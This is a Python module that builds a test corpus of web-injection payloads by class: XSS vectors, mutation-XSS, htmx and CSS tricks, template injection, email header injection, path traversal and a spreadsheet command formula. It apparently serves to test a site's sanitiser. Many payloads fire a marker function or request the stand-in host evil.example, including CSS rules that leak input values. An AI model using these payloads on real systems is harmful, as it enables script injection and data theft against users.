"""Words that mean harm: our own corpus, by class, made from parts.

Each calls ``pwn`` or asks for ``//evil.example`` if something lets it, and
carries ``pwn`` in whatever it would add to a page.
"""

from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache
from itertools import product

CALL = "pwn(1)"
ELSEWHERE = "//evil.example/pwn"
#: Scripts and requests that start without anybody’s help.
VECTORS = (
    f"<script>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
)


@dataclass(frozen=True)
class Payload:
    kind: str
    text: str


@cache
def payloads() -> tuple[Payload, ...]:
    return tuple(
        Payload(make.__name__.strip("_"), text)
        for make in (
            _scripts, _handlers, _schemes, _svg, _mathml, _mutations, _htmx, _gadgets, _styles,
            _requests, _letters, _templates, _breaking, _clobbering, _markdown, _headers,
        )
        for text in make()
    )  # fmt: skip


def joined(limit: int, start: int) -> str:
    """As many payloads as fit into ``limit`` characters, from the one numbered ``start`` on."""
    corpus = payloads()
    said = ""
    for n in range(len(corpus)):
        text = corpus[(start + n) % len(corpus)].text
        if len(said) + len(text) + 1 > limit:
            break
        said += text + "\n"
    return said or corpus[start % len(corpus)].text[:limit]


def _scripts() -> Iterator[str]:
    yield VECTORS[0]
    yield f"<ScRiPt >{CALL}</sCrIpT>"
    yield f"<script\x0c>{CALL}</script\n>"
    yield f"<script/x>{CALL}</script>"
    yield f"<<script>{CALL}//<</script>"
    yield f"<scr<script>ipt>{CALL}</scr</script>ipt>"
    yield f"<script src={ELSEWHERE}.js></script>"
    yield f"<script src=data:text/javascript,{CALL}></script>"
    yield f"<script type=module>{CALL}</script>"
    yield f"<script type=importmap>{{'imports':{{'htmx':'{ELSEWHERE}'}}}}</script>"
    yield f"<script nonce>{CALL}</script>"
    yield f"<script>{CALL}"
    yield f"<noscript><p title='</noscript><script>{CALL}</script>'>"
    yield f"<template><script>{CALL}</script></template>"
    yield f"<template shadowrootmode=open><script>{CALL}</script></template>"
    yield f"<object data='data:text/html,<script>{CALL}</script>'></object>"
    yield f"<embed src='data:image/svg+xml,<svg onload={CALL}>'>"
    yield f"<iframe src='javascript:parent.{CALL}'></iframe>"
    yield VECTORS[3]
    yield f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>"
    yield f"<base href='javascript:/a/-{CALL}//'>"


def _handlers() -> Iterator[str]:
    moments = {
        "img src=x": ("onerror", "oNeRrOr", "onload"),
        "body": ("onload", "onpageshow", "onhashchange"),
        "input autofocus": ("onfocus", "onblur"),
        "details open": ("ontoggle",),
        "video autoplay><source src=x": ("onerror",),
        "audio src=x": ("onerror",),
        "marquee": ("onstart", "onfinish"),
        "div style=animation:x tabindex=1": ("onanimationstart", "onpointerenter", "onfocusin"),
        "a href=#": ("onclick", "onmouseover", "onauxclick"),
        "p contenteditable": ("onbeforeinput", "oncopy", "onscrollend"),
        "dialog open": ("onclose", "onbeforetoggle"),
        "x": ("onwheel", "oncontentvisibilityautostatechange"),
    }
    for tag, events in moments.items():
        for event in events:
            yield f"<{tag} {event}={CALL}>"
    for between, quote in product(("/", "\n", "\t", "\x0c", "//"), ('"', "'", "")):
        yield f"<img{between}src=x{between}onerror{between if between != '/' else ' '}={quote}{CALL}{quote}>"
    yield "<img src=x onerror=pwn&lpar;1&rpar;>"
    yield "<img src=x onerror=&#112;wn(1)>"
    yield "<img src=x onerror=`pwn(1)`>"
    yield "<img src=`x`onerror=pwn(1)>"
    yield '<img """><img src=x onerror=pwn(1)>">'
    yield "<img src=x onerror\x00=pwn(1)>"
    yield "<img src=x on\x00error=pwn(1)>"
    yield "<image src=x onerror=pwn(1)>"
    yield "<img/alt='>'src=x onerror=pwn(1)>"


def _schemes() -> Iterator[str]:
    targets = (
        f"javascript:{CALL}",
        f"JaVaScRiPt:{CALL}",
        f" javascript:{CALL}",
        f"\x01javascript:{CALL}",
        f"java\tscript:{CALL}",
        f"java\nscript:{CALL}",
        f"java&Tab;script&colon;{CALL}",
        f"&#x6A;avascript:{CALL}",
        f"&#106avascript:{CALL}",
        f"javascript://%0a{CALL}",
        f"javascript&#58;{CALL}",
        f"\u2028javascript:{CALL}",
        f"data:text/html,<script>{CALL}</script>",
        "data:text/html;base64,PHNjcmlwdD5wd24oMSk8L3NjcmlwdD4=",
        f"vbscript:{CALL}",
        f"feed:javascript:{CALL}",
        f"view-source:javascript:{CALL}",
        f"blob:{CALL}",
        f"filesystem:{CALL}",
        ELSEWHERE,
        "\\\\evil.example\\pwn",
    )
    for target in targets:
        yield f'<a href="{target}">pwn</a>'
    yield f"<form action='javascript:{CALL}'><button>pwn</button></form>"
    yield f"<button formaction='javascript:{CALL}'>pwn</button>"
    yield f"<area href='javascript:{CALL}'>"
    yield f"javascript:{CALL}"


def _svg() -> Iterator[str]:
    inside = (
        f"<script>{CALL}</script>",
        f"<script href=data:,{CALL} />",
        f"<a xlink:href=javascript:{CALL}><text y=20>pwn</text></a>",
        f"<a><animate attributeName=href values=javascript:{CALL} /><text y=20>pwn</text></a>",
        f"<set attributeName=onmouseover to={CALL}>",
        f"<animate onbegin={CALL} attributeName=x dur=1s>",
        f"<foreignObject><img src=x onerror={CALL}></foreignObject>",
        "<use href=data:image/svg+xml,pwn#x>",
        f"<image href=x onerror={CALL}>",
        f"<style>@import '{ELSEWHERE}'</style>",
        f"<desc><![CDATA[</desc><script>{CALL}</script>]]></desc>",
        f"<title><img src=x onerror={CALL}></title>",
        f"<handler type=text/javascript>{CALL}</handler>",
    )
    for one in inside:
        yield f"<svg>{one}</svg>"
    yield VECTORS[2]
    yield f"<svg/onload={CALL}//"
    yield f"<svg><svg onload={CALL}>"


def _mathml() -> Iterator[str]:
    yield f"<math href=javascript:{CALL}>pwn</math>"
    yield f"<math><maction actiontype=statusline xlink:href=javascript:{CALL}>pwn"
    yield f"<math><annotation-xml encoding=text/html><img src=x onerror={CALL}></annotation-xml></math>"
    yield f"<math><semantics><annotation-xml encoding='application/xhtml+xml'><script>{CALL}"
    yield f"<math><mi><style><!--</style><img title='--><img src=x onerror={CALL}>'>"
    yield f"<math><mglyph><style></math><img src=x onerror={CALL}>"


def _mutations() -> Iterator[str]:
    """Harmless as they are parsed once, and not when what was parsed is parsed again."""
    bomb = f"&lt;img src=x onerror={CALL}&gt;"
    for outer, raw in product(
        ("svg", "math", "p"), ("style", "title", "textarea", "xmp", "noscript")
    ):
        yield f"<{outer}><{raw}><a id='</{raw}><img src=x onerror={CALL}>'>"
    yield f"<math><mtext><table><mglyph><style><!--</style><img title='--{bomb}'>"
    yield f"<svg></p><style><a title='</style><img src=x onerror={CALL}>'>"
    yield f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={CALL}>"
    yield f"<noembed><p title='</noembed><img src=x onerror={CALL}>'>"
    yield f"<noframes><p title='</noframes><img src=x onerror={CALL}>'>"
    yield f"<listing>{bomb}</listing>"
    yield f"<plaintext><img src=x onerror={CALL}>"
    yield f"<select><style></select><img src=x onerror={CALL}>"
    yield f"<table><td><select><caption><img src=x onerror={CALL}>"
    yield f"<!--><img src=x onerror={CALL}>-->"
    yield f"<!--!><img src=x onerror={CALL}>--!>"
    yield f"<!-- --!><img src=x onerror={CALL}> -->"
    yield f"<![CDATA[><img src=x onerror={CALL}>]]>"
    yield f"<?xml ><img src=x onerror={CALL}>?>"
    yield f"<//img src=x onerror={CALL}><img src=x onerror={CALL}>"
    yield f"<b><p title='<!--'><img src=x onerror={CALL} alt='-->'>"
    yield f"<font><table><a href='`><img src=x onerror={CALL}>`'>"
    yield "&lt;script&gt;pwn(1)&lt;/script&gt;"
    yield "&amp;lt;script&amp;gt;pwn(1)&amp;lt;/script&amp;gt;"
    yield "&#60;img src=x onerror=pwn(1)&#62;"


def _htmx() -> Iterator[str]:
    for prefix, verb in product(("hx", "data-hx"), ("get", "post", "put", "patch", "delete")):
        yield f'<div {prefix}-{verb}="/pwn" {prefix}-trigger="load">pwn</div>'
    for prefix in ("hx", "data-hx", "HX", "Data-HX"):
        yield f'<p {prefix}-on::load="{CALL}" {prefix}-on:click="{CALL}">pwn</p>'
        yield f'<p {prefix}-get="/pwn" {prefix}-trigger="load[{CALL}]">pwn</p>'
        yield f"<p {prefix}-get='/pwn' {prefix}-vals='js:{{a:{CALL}}}' {prefix}-trigger=revealed>"
        yield f"<p {prefix}-headers='js:{{a:{CALL}}}' {prefix}-boost=true><a href=/pwn>pwn</a></p>"
        yield f'<p {prefix}-swap-oob="innerHTML:#main" id=pwn>pwn</p>'
    for extension in ("sse-connect", "ws-connect", "hx-ext", "hx-include", "hx-select-oob"):
        yield f'<p {extension}="{ELSEWHERE}">pwn</p>'
    yield '<p _="on load call pwn(1)" x-init="pwn(1)" @click="pwn(1)" v-on:click="pwn(1)">pwn</p>'
    yield '" hx-get="/pwn" hx-trigger="load" x="'
    yield "' data-hx-get='/pwn' data-hx-trigger='every 1s' x='"


def _gadgets() -> Iterator[str]:
    """Attributes and elements that our own scripts obey."""
    for name in ("look", "poll", "opens", "open", "hold", "saves", "keep", "draft", "passkey"):
        yield f'<p data-{name}="/pwn" data-row data-live="/pwn">pwn</p>'
    yield '<time-ago datetime="2026-01-01" pattern="<img src=x onerror=pwn(1)>">pwn</time-ago>'
    yield '<form data-sheet data-saves="/pwn" action="/pwn"><input name=csrfmiddlewaretoken>pwn'


def _styles() -> Iterator[str]:
    for style in (
        f"background:url({ELSEWHERE})",
        f"background:url(javascript:{CALL})",
        f"background-image:\\75rl({ELSEWHERE})",
        f"list-style:url({ELSEWHERE})",
        f"width:expression({CALL})",
        f"-moz-binding:url({ELSEWHERE})",
        f"behavior:url({ELSEWHERE})",
        "position:fixed;inset:0;z-index:9999;--pwn:1",
        f"content:attr(pwn);cursor:url({ELSEWHERE}),auto",
        f"color:red;/*pwn*/background:image-set('{ELSEWHERE}' 1x)",
        f"font-family:'pwn';src:url({ELSEWHERE})",
        f"color:url({ELSEWHERE})",
    ):
        yield f'<p style="{style}">pwn</p>'
    yield f"<style>*{{background:url({ELSEWHERE})}}</style>"
    yield f"<style>@import '{ELSEWHERE}';</style>"
    yield f"<link rel=stylesheet href={ELSEWHERE}.css>"
    yield f"</style><script>{CALL}</script>"
    yield f"#pwn{{background:url({ELSEWHERE})}}"
    yield f"</title><style>input[value^=a]{{background:url({ELSEWHERE})}}</style>"


def _requests() -> Iterator[str]:
    for text in (
        "<img src={}>", "<img srcset='{} 1x'>", "<picture><source srcset={}><img></picture>",
        "<video poster={}>", "<audio src={} autoplay>", "<video><track src={} default></video>",
        "<input type=image src={}>", "<body background={}>", "<table background={}>",
        "<iframe src={}></iframe>", "<object data={}>", "<embed src={}>", "<link rel=icon href={}>",
        "<link rel=prefetch href={}>", "<link rel=preconnect href={}>", "<bgsound src={}>",
        "<a ping={} href=/>pwn</a>", "<svg><image href={} /></svg>", "<base href={}>",
        "<meta http-equiv=refresh content='0;url={}'>", "<portal src={}></portal>",
        "<html manifest={}>", "<frameset><frame src={}></frameset>", "<fencedframe src={}>",
        "<script type=speculationrules>{{'prefetch':[{{'urls':['{}']}}]}}</script>",
        "<form action={} id=pwn><input autofocus></form>", "<applet code={}>",
    ):  # fmt: skip
        yield text.format("http:" + ELSEWHERE)


def _letters() -> Iterator[str]:
    yield f"＜script＞{CALL}＜/script＞"
    yield f"\u02baonmouseover=\u02ba{CALL}\u02ba"
    yield "+ADw-script+AD4-pwn(1)+ADw-/script+AD4-"
    yield f"\ufeff<script>{CALL}</script>"
    yield f"<scr\u200bipt>{CALL}</scr\u200bipt>"
    yield f"<\u0131mg src=x onerror={CALL}>"
    yield f"<\u017fcript>{CALL}</\u017fcript>"
    yield "pwn\u202egpj.exe"
    yield "pwn\u2066\u202e\u2069\u202d"
    yield "pwn\u2028\u2029\x85\x0b\x1f"
    yield "pwn" + "e\u0301\u0302\u0303\u0304" * 8
    yield "pwn👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿"
    yield f"%3Cscript%3E{CALL}%3C/script%3E"
    yield f"\\u003cscript\\u003e{CALL}"
    yield f"\\x3cscript\\x3e{CALL}"
    yield "pwn\u00ad\u034f\u061c\u180e\u2060\u3164"


def _templates() -> Iterator[str]:
    yield "pwn{{7*7191}}pwn"
    yield "pwn{% debug %}{% csrf_token %}{% load static %}"
    yield "pwn{{ settings.SECRET_KEY }}{{ request.META }}"
    yield "{% include 'pwn' %}{% endblock %}{% extends pwn %}"
    yield "pwn${7*7191}#{7*7191}<%= 7*7191 %>@(7*7191)"
    yield "{0.__class__.__init__.__globals__}pwn{who}{what}{}{"
    yield "pwn%s%(name)s%(who)s%d%%n%n%"
    yield "{{constructor.constructor('pwn(1)')()}}"
    yield "{{ ''.__class__.__mro__[1].__subclasses__() }}pwn"
    yield "pwn{%comment%}{#"


def _breaking() -> Iterator[str]:
    ends = (
        '"', "'", "`", '">', "'>", "`>", "-->", "*/", "]]>", '\\"', "\\'", "&quot;>", "&#34;>",
        "</textarea>", "</title>", "</script>", "</style>", "</option></select>", "</noscript>",
        "</template>", "</svg>", "</pre>", "</a>", "</button></form>", "</time-ago>", '"/>',
    )  # fmt: skip
    for end in ends:
        yield f"{end}{VECTORS[1]}"
    for quote in ('"', "'", "`", "&quot;", ""):
        yield f"pwn{quote} autofocus onfocus={quote}{CALL}"
        yield f"pwn{quote} style={quote}background:url({ELSEWHERE})"
    yield f"pwn';{CALL};//"
    yield f'pwn";{CALL};//'
    yield f"${{{CALL}}}"
    yield f"pwn\n\n{CALL}\r\n"


def _clobbering() -> Iterator[str]:
    for name in ("htmx", "csrfmiddlewaretoken", "main", "flashes", "preview", "entries"):
        yield f"<a id={name} name={name} href=pwn:x>pwn</a>"
    yield "<form id=pwn><input name=action><input name=submit><input name=attributes></form>"
    yield "<img name=cookie src=pwn><img name=getElementById>"


def _markdown() -> Iterator[str]:
    for target in (
        f"javascript:{CALL}", f"JAVASCRIPT:{CALL}", f"data:text/html,{CALL}", f"vbscript:{CALL}",
        f"&#106;avascript:{CALL}", f"java%0ascript:{CALL}", f"<javascript:{CALL}>",
        f"x\"onmouseover=\"{CALL}", f"http://a.example/\"onmouseover={CALL}//",
    ):  # fmt: skip
        yield f"[pwn]({target})"
    yield f"![pwn](http:{ELSEWHERE})"
    yield f'![pwn](x"onerror="{CALL})'
    yield f"<javascript:{CALL}>"
    yield f"[pwn]: javascript:{CALL}\n\n[pwn]"
    yield f"[a](x 'title\" onmouseover={CALL}')"
    yield f"```\n</code></pre><img src=x onerror={CALL}>\n```"
    yield f"http://a.example/<img src=x onerror={CALL}>"
    yield f"https://a.example/'\"><svg/onload={CALL}>"


def _headers() -> Iterator[str]:
    yield "pwn\r\nBcc: victim@evil.example\r\n\r\nbody"
    yield "pwn\nContent-Type: text/html\n\n<script>pwn(1)</script>"
    yield "=?utf-8?q?pwn=0d=0aBcc:_victim@evil.example?="
    yield "=?utf-8?b?PHNjcmlwdD5wd24oMSk8L3NjcmlwdD4=?="
    yield '"pwn" <victim@evil.example>, other@evil.example'
    yield "pwn@evil.example>\r\nX: y"
    yield "../../../pwn\\..\\etc/passwd\x00.png"
    yield "=cmd|' /C pwn'!A0"
